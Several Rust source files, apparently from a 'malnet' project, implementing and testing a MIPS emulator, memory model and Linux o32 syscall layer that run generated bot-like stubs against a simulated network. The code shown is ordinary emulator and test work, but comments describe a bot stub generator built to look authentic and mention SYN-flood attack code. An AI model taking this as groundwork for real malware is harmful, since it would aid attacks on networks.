                &malnet_mips::elf::ElfError::Truncated
            );
        }
        if let Ok(f) = res {
            let total: usize = f.segments.iter().map(|s| s.data.len()).sum();
            prop_assert!(total <= cut, "parsed more bytes than the input holds");
        }
    }

    /// Arbitrary byte corruption of header and program-header-table
    /// bytes never panics the parser or makes it over-allocate: any
    /// successful parse carries at most the input's bytes, and every
    /// accepted memsz stays under the documented cap (so `load()` is
    /// safe to call on whatever `parse` accepts).
    #[test]
    fn elf_parse_survives_bitflips(
        text in proptest::collection::vec(any::<u8>(), 0..128),
        flips in proptest::collection::vec((0usize..160, 0u8..8), 1..24),
    ) {
        let mut bytes = sample_elf(&text).write();
        for (pos, bit) in flips {
            let pos = pos % bytes.len();
            bytes[pos] ^= 1 << bit;
        }
        if let Ok(f) = ElfFile::parse(&bytes) {
            let total: usize = f.segments.iter().map(|s| s.data.len()).sum();
            prop_assert!(total <= bytes.len());
            for seg in &f.segments {
                prop_assert!(seg.memsz as usize <= MAX_SEGMENT_MEMSZ);
            }
            // Loading whatever parse accepted must also be panic-free
            // and bounded.
            let _ = f.load();
        }
    }

    /// The CPU never panics on arbitrary instruction words — every word
    /// either executes or faults cleanly.
    #[test]
    fn cpu_never_panics_on_fuzzed_text(words in proptest::collection::vec(any::<u32>(), 1..64)) {
        let base = 0x400000;
        let bytes: Vec<u8> = words.iter().flat_map(|w| w.to_be_bytes()).collect();
        let mut mem = Memory::new();
        mem.map(base, bytes, false);
        mem.map_zeroed(STACK_TOP - STACK_SIZE, STACK_SIZE + 0x1000, true);
        let mut cpu = Cpu::new(mem, base);
        for _ in 0..200 {
            match cpu.step() {
                Ok(_) => {}
                Err(_) => break,
            }
        }
    }
}
