//! Property tests: assembler/disassembler agreement, memory invariants,
//! and CPU arithmetic checked against a Rust reference model.

use proptest::prelude::*;

use malnet_mips::asm::{Assembler, Ins, Reg};
use malnet_mips::cpu::{Cpu, CpuError, STACK_SIZE, STACK_TOP};
use malnet_mips::dis;
use malnet_mips::mem::Memory;

fn reg_strategy() -> impl Strategy<Value = Reg> {
    // Avoid $zero as destination-interesting but allowed; keep full range.
    (0u8..32).prop_map(Reg)
}

fn alu_ins() -> impl Strategy<Value = Ins> {
    let r = reg_strategy;
    prop_oneof![
        (r(), r(), r()).prop_map(|(a, b, c)| Ins::Addu(a, b, c)),
        (r(), r(), r()).prop_map(|(a, b, c)| Ins::Subu(a, b, c)),
        (r(), r(), r()).prop_map(|(a, b, c)| Ins::And(a, b, c)),
        (r(), r(), r()).prop_map(|(a, b, c)| Ins::Or(a, b, c)),
        (r(), r(), r()).prop_map(|(a, b, c)| Ins::Xor(a, b, c)),
        (r(), r(), r()).prop_map(|(a, b, c)| Ins::Nor(a, b, c)),
        (r(), r(), r()).prop_map(|(a, b, c)| Ins::Slt(a, b, c)),
        (r(), r(), r()).prop_map(|(a, b, c)| Ins::Sltu(a, b, c)),
        (r(), r(), 0u8..32).prop_map(|(a, b, s)| Ins::Sll(a, b, s)),
        (r(), r(), 0u8..32).prop_map(|(a, b, s)| Ins::Srl(a, b, s)),
        (r(), r(), 0u8..32).prop_map(|(a, b, s)| Ins::Sra(a, b, s)),
        (r(), r(), any::<i16>()).prop_map(|(a, b, i)| Ins::Addiu(a, b, i)),
        (r(), r(), any::<u16>()).prop_map(|(a, b, i)| Ins::Andi(a, b, i)),
        (r(), r(), any::<u16>()).prop_map(|(a, b, i)| Ins::Ori(a, b, i)),
        (r(), r(), any::<u16>()).prop_map(|(a, b, i)| Ins::Xori(a, b, i)),
        (r(), any::<u16>()).prop_map(|(a, i)| Ins::Lui(a, i)),
    ]
}

/// A pure-Rust reference for the ALU subset.
fn reference_step(regs: &mut [u32; 32], ins: &Ins) {
    let g = |r: Reg| regs[r.0 as usize & 31];
    let result: Option<(Reg, u32)> = match ins {
        Ins::Addu(d, s, t) => Some((*d, g(*s).wrapping_add(g(*t)))),
        Ins::Subu(d, s, t) => Some((*d, g(*s).wrapping_sub(g(*t)))),
        Ins::And(d, s, t) => Some((*d, g(*s) & g(*t))),
        Ins::Or(d, s, t) => Some((*d, g(*s) | g(*t))),
        Ins::Xor(d, s, t) => Some((*d, g(*s) ^ g(*t))),
        Ins::Nor(d, s, t) => Some((*d, !(g(*s) | g(*t)))),
        Ins::Slt(d, s, t) => Some((*d, ((g(*s) as i32) < (g(*t) as i32)) as u32)),
        Ins::Sltu(d, s, t) => Some((*d, (g(*s) < g(*t)) as u32)),
        Ins::Sll(d, t, sh) => Some((*d, g(*t) << sh)),
        Ins::Srl(d, t, sh) => Some((*d, g(*t) >> sh)),
        Ins::Sra(d, t, sh) => Some((*d, ((g(*t) as i32) >> sh) as u32)),
        Ins::Addiu(t, s, i) => Some((*t, g(*s).wrapping_add(*i as i32 as u32))),
        Ins::Andi(t, s, i) => Some((*t, g(*s) & u32::from(*i))),
        Ins::Ori(t, s, i) => Some((*t, g(*s) | u32::from(*i))),
        Ins::Xori(t, s, i) => Some((*t, g(*s) ^ u32::from(*i))),
        Ins::Lui(t, i) => Some((*t, u32::from(*i) << 16)),
        _ => None,
    };
    if let Some((d, v)) = result {
        if d.0 & 31 != 0 {
            regs[d.0 as usize & 31] = v;
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(96))]

    /// Arbitrary ALU sequences behave identically on the emulator and
    /// the reference model.
    #[test]
    fn emulator_matches_reference_alu(
        seed_regs in proptest::collection::vec(any::<u32>(), 31),
        program in proptest::collection::vec(alu_ins(), 1..40),
    ) {
        let base = 0x0040_0000;
        let mut a = Assembler::new(base);
        for ins in &program {
            a.ins(ins.clone());
        }
        a.ins(Ins::Break);
        let code = a.assemble().unwrap();
        let mut mem = Memory::new();
        mem.map(base, code, false);
        mem.map_zeroed(STACK_TOP - STACK_SIZE, STACK_SIZE + 0x1000, true);
        let mut cpu = Cpu::new(mem, base);
        let mut reference = [0u32; 32];
        for (i, v) in seed_regs.iter().enumerate() {
            cpu.set_reg(i as u8 + 1, *v);
            reference[i + 1] = *v;
        }
        reference[29] = cpu.reg(29); // $sp set by the loader
        loop {
            match cpu.step() {
                Ok(_) => {}
                Err(CpuError::Break { .. }) => break,
                Err(e) => return Err(TestCaseError::fail(format!("fault: {e}"))),
            }
        }
        for ins in &program {
            reference_step(&mut reference, ins);
        }
        for r in 0..32u8 {
            prop_assert_eq!(cpu.reg(r), reference[r as usize], "reg ${}", r);
        }
    }

    /// Everything the assembler emits, the disassembler names (no
    /// `.word` fallbacks), and instruction sizes add up.
    #[test]
    fn assembler_disassembler_agree(program in proptest::collection::vec(alu_ins(), 1..60)) {
        let mut a = Assembler::new(0x400000);
        let mut expected = 0;
        for ins in &program {
            expected += ins.size();
            a.ins(ins.clone());
        }
        let code = a.assemble().unwrap();
        prop_assert_eq!(code.len() as u32, expected);
        for line in dis::disassemble_all(&code, 0x400000) {
            prop_assert!(!line.contains(".word"), "{}", line);
        }
    }

    /// Memory round-trips arbitrary word writes and rejects everything
    /// out of bounds without panicking.
    #[test]
    fn memory_roundtrip_and_bounds(
        writes in proptest::collection::vec((0u32..1024, any::<u32>()), 1..50),
        probe in any::<u32>(),
    ) {
        let mut m = Memory::new();
        m.map(0x1000, vec![0; 4096], true);
        let mut shadow = std::collections::HashMap::new();
        for (off, v) in &writes {
            let addr = 0x1000 + off * 4;
            m.write_u32(addr, *v).unwrap();
            shadow.insert(addr, *v);
        }
        for (addr, v) in &shadow {
            prop_assert_eq!(m.read_u32(*addr).unwrap(), *v);
        }
        // Arbitrary probes never panic.
        let _ = m.read_u32(probe);
        let _ = m.read_u8(probe);
        let _ = m.read_u16(probe);
    }

    /// The CPU never panics on arbitrary instruction words — every word
    /// either executes or faults cleanly.
    #[test]
    fn cpu_never_panics_on_fuzzed_text(words in proptest::collection::vec(any::<u32>(), 1..64)) {
        let base = 0x400000;
        let bytes: Vec<u8> = words.iter().flat_map(|w| w.to_be_bytes()).collect();
        let mut mem = Memory::new();
        mem.map(base, bytes, false);
        mem.map_zeroed(STACK_TOP - STACK_SIZE, STACK_SIZE + 0x1000, true);
        let mut cpu = Cpu::new(mem, base);
        for _ in 0..200 {
            match cpu.step() {
                Ok(_) => {}
                Err(_) => break,
            }
        }
    }
}
