//! Cache-invalidation regressions for the block engine: self-modifying
//! code must execute the *new* bytes, identically under the stepping
//! oracle and `run_cached`, including the two nastiest shapes — a store
//! into the block currently being executed, and a branch delay slot
//! that straddles the cached segment's end.

use malnet_mips::asm::{Assembler, Ins, Reg};
use malnet_mips::block::ExecCache;
use malnet_mips::cpu::{Cpu, CpuError, STACK_SIZE, STACK_TOP};
use malnet_mips::mem::Memory;

const BASE: u32 = 0x0040_0000;

fn build_mem(code: &[u8], writable_text: bool) -> Memory {
    let mut mem = Memory::new();
    mem.map(BASE, code.to_vec(), writable_text);
    mem.map_zeroed(0x1000_0000, 4096, true);
    mem.map_zeroed(STACK_TOP - STACK_SIZE, STACK_SIZE + 0x1000, true);
    mem
}

/// Run to the first fault under both engines (several budget slicings)
/// and assert identical outcome and state; returns the oracle CPU.
fn assert_identical(code: &[u8], writable_text: bool) -> Cpu {
    let mut result = None;
    for slice in [1u64, 2, 3, 5, 100_000] {
        let mut oracle = Cpu::new(build_mem(code, writable_text), BASE);
        let mut mem = build_mem(code, writable_text);
        let mut cache = ExecCache::for_entry(&mut mem, BASE).unwrap();
        let mut fast = Cpu::new(mem, BASE);
        let (a, b) = loop {
            let a = oracle.run(slice);
            let b = fast.run_cached(slice, &mut cache);
            assert_eq!(a, b, "slice {slice}: outcome diverged");
            assert_eq!(oracle.regs, fast.regs, "slice {slice}: registers");
            assert_eq!(oracle.pc, fast.pc, "slice {slice}: pc");
            assert_eq!(oracle.retired, fast.retired, "slice {slice}: retired");
            let (tb, tl, _) = oracle.mem.segment_span(BASE).unwrap();
            assert_eq!(
                oracle.mem.view(tb, tl).unwrap(),
                fast.mem.view(tb, tl).unwrap(),
                "slice {slice}: text image"
            );
            if a.is_err() {
                break (a, b);
            }
            assert!(oracle.retired < 100_000, "runaway program");
        };
        let _ = (a, b);
        result = Some(oracle);
    }
    result.unwrap()
}

#[test]
fn store_into_own_text_reexecutes_new_bytes() {
    // Patch a later word from `break` to `addiu $t7,$t7,1`, then reach
    // it: both engines must run the patched instruction.
    let code = {
        let mut a = Assembler::new(BASE);
        a.ins(Ins::Li(Reg::T0, BASE))
            .ins(Ins::Li(Reg::T1, 0x25ef_0001)) // addiu $t7,$t7,1
            .ins(Ins::Sw(Reg::T1, Reg::T0, 24)) // word index 6
            .ins(Ins::Nop) // index 5
            .ins(Ins::Break) // index 6: patched before execution
            .ins(Ins::Break); // index 7: real end
        a.assemble().unwrap()
    };
    let cpu = assert_identical(&code, true);
    assert_eq!(cpu.reg(15), 1, "patched addiu must have executed");
}

#[test]
fn store_into_currently_executing_block_takes_effect_immediately() {
    // The store's target is the *very next* word in the same block the
    // fast path is streaming through (sw at word index 4 patches word
    // index 5) — the engine must notice the version bump before
    // dispatching the stale op.
    let code = {
        let mut a = Assembler::new(BASE);
        a.ins(Ins::Li(Reg::T0, BASE)) // words 0-1
            .ins(Ins::Li(Reg::T1, 0x25ef_0001)) // words 2-3: addiu $t7,$t7,1
            .ins(Ins::Sw(Reg::T1, Reg::T0, 20)) // word 4, patches word 5
            .ins(Ins::Break) // word 5: patched just before execution
            .ins(Ins::Break); // word 6: real end
        a.assemble().unwrap()
    };
    let cpu = assert_identical(&code, true);
    assert_eq!(
        cpu.reg(15),
        1,
        "word patched mid-block must execute in its new form"
    );
}

#[test]
fn delay_slot_straddling_cached_segment_boundary() {
    // The cached segment's *last* word is a branch; its delay slot lives
    // in the adjacent segment. The fast path cannot fold this (no next
    // word in the cache) — it must hand off to the oracle, which
    // executes the out-of-segment delay slot with pending-branch
    // semantics. Equivalence includes the retired count and $t7.
    let text = {
        let mut a = Assembler::new(BASE);
        a.ins(Ins::Li(Reg::T0, 1))
            .label("spin")
            .ins(Ins::Bne(Reg::T0, Reg::ZERO, "out".into()))
            .label("out")
            .ins(Ins::Li(Reg::T7, 7))
            .ins(Ins::Break);
        a.assemble().unwrap()
    };
    // Split: keep everything up to and including the bne in the cached
    // segment; its delay slot (the assembler's nop) and the rest go into
    // a second, adjacent segment.
    let bne_end = 3 * 4; // Li(2 words) + bne head
    let (seg1, seg2) = text.split_at(bne_end);

    for slice in [1u64, 2, 3, 100_000] {
        let mk = || {
            let mut mem = Memory::new();
            mem.map(BASE, seg1.to_vec(), false);
            mem.map(BASE + bne_end as u32, seg2.to_vec(), false);
            mem.map_zeroed(STACK_TOP - STACK_SIZE, STACK_SIZE + 0x1000, true);
            mem
        };
        let mut oracle = Cpu::new(mk(), BASE);
        let mut mem = mk();
        // Cache covers ONLY the first segment: the bne is its last word.
        let mut cache = ExecCache::for_entry(&mut mem, BASE).unwrap();
        assert_eq!(cache.end(), BASE + bne_end as u32);
        let mut fast = Cpu::new(mem, BASE);
        loop {
            let a = oracle.run(slice);
            let b = fast.run_cached(slice, &mut cache);
            assert_eq!(a, b, "slice {slice}");
            assert_eq!(oracle.regs, fast.regs, "slice {slice}");
            assert_eq!(oracle.pc, fast.pc, "slice {slice}");
            assert_eq!(oracle.retired, fast.retired, "slice {slice}");
            assert_eq!(
                oracle.pending_branch(),
                fast.pending_branch(),
                "slice {slice}"
            );
            match a {
                Err(CpuError::Break { .. }) => break,
                Err(e) => panic!("unexpected fault: {e}"),
                Ok(_) => assert!(oracle.retired < 1000, "runaway"),
            }
        }
        assert_eq!(oracle.reg(15), 7, "post-branch code ran");
    }
}

#[test]
fn sandbox_syscall_write_into_text_invalidates_too() {
    // `write_bytes` (the path sandbox syscalls like recv/getrandom use
    // to deposit data into guest memory) must bump the code version just
    // like guest stores: simulate the embedder patching text at a yield.
    let code = {
        let mut a = Assembler::new(BASE);
        a.ins(Ins::Li(Reg::V0, 4013)) // fused LiSyscall prelude
            .ins(Ins::Syscall)
            .ins(Ins::Break) // patched to addiu $t7,$t7,1 at the yield
            .ins(Ins::Break);
        a.assemble().unwrap()
    };
    let patch = 0x25ef_0001u32.to_be_bytes(); // addiu $t7,$t7,1
    let patch_at = BASE + 3 * 4;

    let run = |use_cache: bool| -> (Cpu, u64) {
        let mut mem = build_mem(&code, true);
        let mut cache = ExecCache::for_entry(&mut mem, BASE).unwrap();
        let mut cpu = Cpu::new(mem, BASE);
        let mut yields = 0u64;
        loop {
            let r = if use_cache {
                cpu.run_cached(100_000, &mut cache)
            } else {
                cpu.run(100_000)
            };
            match r {
                Ok(Some(_)) => {
                    yields += 1;
                    cpu.mem.write_bytes(patch_at, &patch).unwrap();
                    cpu.set_reg(2, 0);
                    cpu.set_reg(7, 0);
                }
                Err(CpuError::Break { .. }) => break,
                other => panic!("unexpected: {other:?}"),
            }
        }
        (cpu, yields)
    };
    let (oracle, oy) = run(false);
    let (fast, fy) = run(true);
    assert_eq!(oy, fy);
    assert_eq!(oracle.regs, fast.regs);
    assert_eq!(oracle.retired, fast.retired);
    assert_eq!(fast.reg(15), 1, "embedder-patched word must execute");
}
