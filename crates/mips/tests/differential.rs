//! Differential proptests: the block-cached engine (`Cpu::run_cached`)
//! against the stepping oracle (`Cpu::run`) in lockstep.
//!
//! Both engines run the same program with the same per-call budget; at
//! every stop (budget exhaustion, syscall yield, fault) the *complete*
//! architectural state must match: register file, pc, hi/lo, pending
//! branch, retired-instruction count, the full memory image, and the
//! syscall trace. Programs come from the same strategies the rest of
//! the suite uses — the botgen stub subset with branches and syscalls,
//! plus arbitrary instruction soup (fuzzed `.text`, writable so stores
//! exercise cache invalidation).

use proptest::prelude::*;

use malnet_mips::asm::{Assembler, Ins, Reg, Target};
use malnet_mips::block::ExecCache;
use malnet_mips::cpu::{Cpu, STACK_SIZE, STACK_TOP};
use malnet_mips::mem::Memory;

const BASE: u32 = 0x0040_0000;

fn build(code: Vec<u8>, writable_text: bool) -> (Cpu, ExecCache) {
    let mut mem = Memory::new();
    mem.map(BASE, code, writable_text);
    mem.map_zeroed(0x1000_0000, 4096, true);
    mem.map_zeroed(STACK_TOP - STACK_SIZE, STACK_SIZE + 0x1000, true);
    let cache = ExecCache::for_entry(&mut mem, BASE).expect("text maps at BASE");
    (Cpu::new(mem, BASE), cache)
}

/// One syscall observation: number and the four o32 argument registers.
type SyscallRecord = (u32, u32, u32, u32, u32);

fn record_and_service(cpu: &mut Cpu, k: u32) -> SyscallRecord {
    let rec = (cpu.reg(2), cpu.reg(4), cpu.reg(5), cpu.reg(6), cpu.reg(7));
    // Deterministic embedder: unique return value per yield, $a3 = 0.
    cpu.set_reg(2, 0x0575_0000u32.wrapping_add(k));
    cpu.set_reg(7, 0);
    rec
}

/// Drive both engines with slice-sized budgets and compare complete
/// state at every stop. Returns Err on divergence (prop_assert inside).
fn lockstep(code: Vec<u8>, slice: u64, writable_text: bool) -> Result<(), TestCaseError> {
    let (mut oracle, _unused) = build(code.clone(), writable_text);
    let (mut fast, mut cache) = build(code, writable_text);
    let mut oracle_trace: Vec<SyscallRecord> = Vec::new();
    let mut fast_trace: Vec<SyscallRecord> = Vec::new();
    let mut yields = 0u32;
    for _round in 0..4096 {
        let a = oracle.run(slice);
        let b = fast.run_cached(slice, &mut cache);
        prop_assert_eq!(&a, &b, "outcome diverged at retired={}", oracle.retired);
        prop_assert_eq!(oracle.regs, fast.regs, "registers diverged");
        prop_assert_eq!(oracle.pc, fast.pc, "pc diverged");
        prop_assert_eq!(oracle.hi, fast.hi, "hi diverged");
        prop_assert_eq!(oracle.lo, fast.lo, "lo diverged");
        prop_assert_eq!(oracle.retired, fast.retired, "retired diverged");
        prop_assert_eq!(
            oracle.pending_branch(),
            fast.pending_branch(),
            "pending branch diverged"
        );
        for seg in [BASE, 0x1000_0000] {
            if let Some((b0, len, _)) = oracle.mem.segment_span(seg) {
                prop_assert_eq!(
                    oracle.mem.view(b0, len).unwrap(),
                    fast.mem.view(b0, len).unwrap(),
                    "memory image at {:#x} diverged",
                    b0
                );
            }
        }
        match a {
            Err(_) => break, // identical faults: done
            Ok(Some(_)) => {
                yields += 1;
                oracle_trace.push(record_and_service(&mut oracle, yields));
                fast_trace.push(record_and_service(&mut fast, yields));
            }
            Ok(None) => {}
        }
        if oracle.retired > 60_000 {
            break; // looping program: enough lockstep evidence
        }
    }
    prop_assert_eq!(oracle_trace, fast_trace, "syscall traces diverged");
    Ok(())
}

fn reg() -> impl Strategy<Value = Reg> {
    (0u8..32).prop_map(Reg)
}

/// Stub-shaped programs: Li pairs, loop counters, branches with nop
/// delay slots, loads/stores, syscall preludes — everything the fusion
/// pass targets, in random interleavings.
fn stub_ins() -> impl Strategy<Value = Ins> {
    let t = || (0u32..96).prop_map(|k| Target::Abs(BASE + k * 4));
    prop_oneof![
        (reg(), any::<u32>()).prop_map(|(a, v)| Ins::Li(a, v)),
        (reg(), reg()).prop_map(|(a, b)| Ins::Move(a, b)),
        (reg(), reg(), any::<i16>()).prop_map(|(a, b, i)| Ins::Addiu(a, b, i)),
        (reg(), reg(), reg()).prop_map(|(a, b, c)| Ins::Addu(a, b, c)),
        (reg(), reg(), reg()).prop_map(|(a, b, c)| Ins::Xor(a, b, c)),
        (reg(), reg(), reg()).prop_map(|(a, b, c)| Ins::Sltu(a, b, c)),
        (reg(), reg(), 0u8..32).prop_map(|(a, b, s)| Ins::Sll(a, b, s)),
        (reg(), reg()).prop_map(|(a, b)| Ins::Multu(a, b)),
        (reg(), reg()).prop_map(|(a, b)| Ins::Divu(a, b)),
        reg().prop_map(Ins::Mflo),
        (reg(), reg(), any::<i16>()).prop_map(|(a, b, o)| Ins::Lw(a, b, o)),
        (reg(), reg(), any::<i16>()).prop_map(|(a, b, o)| Ins::Sw(a, b, o)),
        (reg(), reg(), any::<i16>()).prop_map(|(a, b, o)| Ins::Sb(a, b, o)),
        (reg(), reg(), t()).prop_map(|(a, b, t)| Ins::Beq(a, b, t)),
        (reg(), reg(), t()).prop_map(|(a, b, t)| Ins::Bne(a, b, t)),
        (reg(), t()).prop_map(|(a, t)| Ins::Bltz(a, t)),
        t().prop_map(Ins::J),
        t().prop_map(Ins::Jal),
        Just(Ins::Jr(Reg::RA)),
        Just(Ins::Syscall),
        Just(Ins::Nop),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    /// Assembled stub-subset programs (with the idioms fusion targets)
    /// behave identically under both engines at every budget slicing.
    #[test]
    fn block_engine_matches_oracle_on_stub_programs(
        program in proptest::collection::vec(stub_ins(), 1..64),
        slice in prop_oneof![1u64..8, Just(100u64), Just(100_000u64)],
    ) {
        let mut a = Assembler::new(BASE);
        for ins in &program {
            a.ins(ins.clone());
        }
        a.ins(Ins::Break);
        let code = a.assemble().unwrap();
        lockstep(code, slice, false)?;
    }

    /// Arbitrary instruction soup over *writable* text: every word
    /// either executes or faults identically, and stores landing in the
    /// executing segment invalidate the cache rather than diverge.
    #[test]
    fn block_engine_matches_oracle_on_fuzzed_writable_text(
        words in proptest::collection::vec(any::<u32>(), 1..96),
        slice in prop_oneof![1u64..8, Just(64u64), Just(100_000u64)],
    ) {
        let code: Vec<u8> = words.iter().flat_map(|w| w.to_be_bytes()).collect();
        lockstep(code, slice, true)?;
    }

    /// Truncated stub programs (cut mid-idiom: a lui with its ori
    /// sliced off, a branch missing its delay slot) still match —
    /// running off the segment end faults identically in both engines.
    #[test]
    fn block_engine_matches_oracle_on_truncated_programs(
        program in proptest::collection::vec(stub_ins(), 1..24),
        cut_words in any::<prop::sample::Index>(),
        slice in 1u64..6,
    ) {
        let mut a = Assembler::new(BASE);
        for ins in &program {
            a.ins(ins.clone());
        }
        let mut code = a.assemble().unwrap();
        let words = code.len() / 4;
        let keep = 4 * (1 + cut_words.index(words));
        code.truncate(keep);
        lockstep(code, slice, false)?;
    }
}
