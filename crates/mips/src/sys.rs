//! The Linux MIPS o32 syscall ABI, as seen from both sides.
//!
//! The stub generator (in `malnet-botgen`) emits `li $v0, NR; syscall`
//! sequences; the sandbox implements the numbers below against the
//! simulated network. Numbers are the real Linux o32 values (base 4000)
//! so the binaries look authentic to external tooling.
//!
//! Calling convention (o32):
//! * number in `$v0`
//! * arguments in `$a0..$a3`
//! * result in `$v0`; `$a3` non-zero signals error (and `$v0` holds errno)

/// exit(status)
pub const NR_EXIT: u32 = 4001;
/// read(fd, buf, len)
pub const NR_READ: u32 = 4003;
/// write(fd, buf, len)
pub const NR_WRITE: u32 = 4004;
/// close(fd)
pub const NR_CLOSE: u32 = 4006;
/// time(NULL) → seconds
pub const NR_TIME: u32 = 4013;
/// getpid()
pub const NR_GETPID: u32 = 4020;
/// nanosleep(req, rem) — the sandbox reads req as {secs, nanos} in guest
/// memory
pub const NR_NANOSLEEP: u32 = 4166;
/// accept(fd, addr, addrlen)
pub const NR_ACCEPT: u32 = 4168;
/// bind(fd, sockaddr, len)
pub const NR_BIND: u32 = 4169;
/// connect(fd, sockaddr, len)
pub const NR_CONNECT: u32 = 4170;
/// listen(fd, backlog)
pub const NR_LISTEN: u32 = 4174;
/// recv(fd, buf, len, flags)
pub const NR_RECV: u32 = 4175;
/// recvfrom(fd, buf, len, flags) — src address reporting elided
pub const NR_RECVFROM: u32 = 4176;
/// send(fd, buf, len, flags)
pub const NR_SEND: u32 = 4178;
/// sendto(fd, buf, len, flags, sockaddr, len)
pub const NR_SENDTO: u32 = 4180;
/// socket(domain, type, protocol)
pub const NR_SOCKET: u32 = 4183;
/// getrandom(buf, len, flags)
pub const NR_GETRANDOM: u32 = 4353;

/// AF_INET
pub const AF_INET: u32 = 2;
/// SOCK_STREAM
pub const SOCK_STREAM: u32 = 1;
/// SOCK_DGRAM
pub const SOCK_DGRAM: u32 = 2;
/// SOCK_RAW (used by SYN-flood style attack code)
pub const SOCK_RAW: u32 = 3;

/// Errno: operation would block / timed out.
pub const ETIMEDOUT: u32 = 145;
/// Errno: connection refused.
pub const ECONNREFUSED: u32 = 146;
/// Errno: bad file descriptor.
pub const EBADF: u32 = 9;
/// Errno: invalid argument.
pub const EINVAL: u32 = 22;
/// Errno: interrupted system call (a signal arrived mid-syscall; the
/// caller is expected to retry). Injected by the emulator fault domain.
pub const EINTR: u32 = 4;
/// Errno: out of memory (allocation-backed syscall paths).
pub const ENOMEM: u32 = 12;
/// Errno: too many open files (the per-process fd table is full).
pub const EMFILE: u32 = 24;
/// Errno: resource temporarily unavailable (non-blocking would-block).
pub const EAGAIN: u32 = 11;

/// Layout of `struct sockaddr_in` as the stub writes it into guest
/// memory: family(u16)=AF_INET, port(u16 BE), addr(u32 BE), zero pad to 16.
pub const SOCKADDR_LEN: u32 = 16;

/// Encode a sockaddr_in the way the guest stub lays it out.
pub fn encode_sockaddr(ip: u32, port: u16) -> [u8; 16] {
    let mut b = [0u8; 16];
    b[0..2].copy_from_slice(&(AF_INET as u16).to_be_bytes());
    b[2..4].copy_from_slice(&port.to_be_bytes());
    b[4..8].copy_from_slice(&ip.to_be_bytes());
    b
}

/// Decode a guest sockaddr_in (family, port, ip).
pub fn decode_sockaddr(b: &[u8]) -> Option<(u16, u16, u32)> {
    if b.len() < 8 {
        return None;
    }
    let family = u16::from_be_bytes([b[0], b[1]]);
    let port = u16::from_be_bytes([b[2], b[3]]);
    let ip = u32::from_be_bytes([b[4], b[5], b[6], b[7]]);
    Some((family, port, ip))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sockaddr_roundtrip() {
        let b = encode_sockaddr(0x0a010203, 8080);
        let (fam, port, ip) = decode_sockaddr(&b).unwrap();
        assert_eq!(fam, AF_INET as u16);
        assert_eq!(port, 8080);
        assert_eq!(ip, 0x0a010203);
    }

    #[test]
    fn sockaddr_too_short_is_none() {
        assert!(decode_sockaddr(&[0; 4]).is_none());
    }

    #[test]
    fn syscall_numbers_are_o32() {
        // Spot-check the real Linux o32 table.
        assert_eq!(NR_EXIT, 4001);
        assert_eq!(NR_SOCKET, 4183);
        assert_eq!(NR_CONNECT, 4170);
        assert_eq!(NR_SENDTO, 4180);
        // Errnos: MIPS shares the low classic-Unix values with asm-generic
        // (EINTR..EMFILE) but diverges above 34 (ETIMEDOUT/ECONNREFUSED
        // come from the SysV-derived MIPS table, not the 110/111 of x86).
        assert_eq!(EINTR, 4);
        assert_eq!(EBADF, 9);
        assert_eq!(EAGAIN, 11);
        assert_eq!(ENOMEM, 12);
        assert_eq!(EINVAL, 22);
        assert_eq!(EMFILE, 24);
        assert_eq!(ETIMEDOUT, 145);
        assert_eq!(ECONNREFUSED, 146);
    }
}
