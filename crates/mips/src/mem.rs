//! Segmented memory for the emulated process.
//!
//! Memory is a small set of contiguous segments (text, rodata, bss,
//! stack). All multi-byte accesses are big-endian, as on traditional MIPS.
//! Out-of-segment or misaligned accesses return errors that the CPU
//! surfaces as faults (real malware that wanders off segfaults; so do we).

use std::fmt;

/// A memory access fault.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum MemError {
    /// No segment maps this address range.
    Unmapped {
        /// Faulting address.
        addr: u32,
        /// Access size in bytes.
        size: u32,
    },
    /// Write attempted to a read-only segment.
    ReadOnly {
        /// Faulting address.
        addr: u32,
    },
    /// Address not aligned for the access size.
    Misaligned {
        /// Faulting address.
        addr: u32,
        /// Required alignment.
        align: u32,
    },
}

impl fmt::Display for MemError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            MemError::Unmapped { addr, size } => {
                write!(f, "unmapped access of {size} bytes at {addr:#010x}")
            }
            MemError::ReadOnly { addr } => write!(f, "write to read-only memory at {addr:#010x}"),
            MemError::Misaligned { addr, align } => {
                write!(f, "misaligned {align}-byte access at {addr:#010x}")
            }
        }
    }
}

impl std::error::Error for MemError {}

#[derive(Debug, Clone)]
struct Segment {
    base: u32,
    data: Vec<u8>,
    writable: bool,
}

/// The emulated address space.
#[derive(Debug, Clone, Default)]
pub struct Memory {
    segments: Vec<Segment>,
    /// Code-watch range `[watch_start, watch_end)`: successful writes
    /// overlapping it bump `code_version` so a predecoded execution
    /// cache (see `crate::block`) knows its view of `.text` is stale.
    /// Empty (`0..0`) by default, so unwatched memories pay only two
    /// compares per write.
    watch_start: u32,
    watch_end: u32,
    code_version: u64,
}

impl Memory {
    /// An empty address space.
    pub fn new() -> Self {
        Self::default()
    }

    /// Map a segment. Panics on overlap (loader bug, not guest behaviour).
    pub fn map(&mut self, base: u32, data: Vec<u8>, writable: bool) {
        let end = base as u64 + data.len() as u64;
        assert!(end <= u32::MAX as u64 + 1, "segment exceeds address space");
        for s in &self.segments {
            let s_end = s.base as u64 + s.data.len() as u64;
            assert!(
                end <= s.base as u64 || s_end <= base as u64,
                "overlapping segments at {base:#x}"
            );
        }
        self.segments.push(Segment {
            base,
            data,
            writable,
        });
    }

    /// Map a zero-filled writable segment.
    pub fn map_zeroed(&mut self, base: u32, len: u32, writable: bool) {
        self.map(base, vec![0; len as usize], writable);
    }

    /// Watch `[start, end)` for writes: any successful store overlapping
    /// the range bumps [`Memory::code_version`]. One range per address
    /// space (the guest's `.text`); re-watching replaces the old range.
    pub fn watch_code(&mut self, start: u32, end: u32) {
        self.watch_start = start;
        self.watch_end = end;
    }

    /// Generation counter for the watched code range. Starts at 0 and
    /// bumps on every successful write that overlaps the watch range.
    pub fn code_version(&self) -> u64 {
        self.code_version
    }

    #[inline]
    fn note_write(&mut self, addr: u32, size: u32) {
        if addr < self.watch_end && u64::from(addr) + u64::from(size) > u64::from(self.watch_start)
        {
            self.code_version += 1;
        }
    }

    /// The `(base, len, writable)` of the segment containing `addr`, if
    /// any. Used by the execution cache to find the text segment's span.
    pub fn segment_span(&self, addr: u32) -> Option<(u32, u32, bool)> {
        self.segments
            .iter()
